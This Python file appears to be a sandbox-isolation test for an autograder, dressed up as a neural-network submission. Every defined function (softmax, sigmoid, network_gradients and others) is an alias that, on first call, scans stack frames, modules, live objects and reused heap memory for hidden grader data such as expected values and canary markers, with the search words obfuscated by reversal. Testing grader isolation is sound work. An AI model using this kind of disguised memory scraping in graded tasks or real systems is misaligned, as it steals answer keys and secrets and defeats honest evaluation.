"""Walks all objects, all frames and all modules of its own process."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import ctypes, gc, threading

WORDS = [word[::-1] for word in ("-YRANAC", "eulav_detcepxe", "snoitatcepxE", "lmot.tnemngissa", "stniop_xam", "tluseRkcehC", "lkcehc")[:6]]

def texts():
    for frame in list(sys._current_frames().values()):
        while frame is not None:
            yield frame.f_code.co_filename
            yield from map(repr, list(frame.f_locals.values())[:50])
            frame = frame.f_back
    for module in list(sys.modules.values()):
        yield str(getattr(module, "__file__", ""))
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple, set) and len(thing) < 200:
            yield from (value for value in (thing.values() if type(thing) is dict else thing) if type(value) in (str, bytes))
        elif type(thing).__module__.startswith("_inside"):
            yield repr(getattr(thing, "__dict__", ""))[:2000]

def heap():
    # arrays that were freed keep their bytes: ask for the same sizes again
    import numpy as np
    for size in (8, 64, 144, 240, 1024, 65536, 1 << 20):
        for _ in range(20):
            yield np.empty(size, np.uint8).tobytes()
    anchor = id(object())
    try:
        yield ctypes.string_at(anchor & ~0xFFF, 4096)
    except Exception:
        pass

def attack():
    for text in texts():
        text = text.decode("latin-1") if isinstance(text, bytes) else str(text)
        for word in WORDS:
            if word in text and "BREACH" not in text and text.strip(chr(39)) not in WORDS and "[::-1]" not in text and repr(WORDS)[:30] not in text:
                print("BREACH", word, text[:200])
    for block in heap():
        for word in WORDS:
            if word.encode() in block and b"YRANAC" not in block and block.count(word.encode()) > 3:
                print("BREACH heap", word)

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
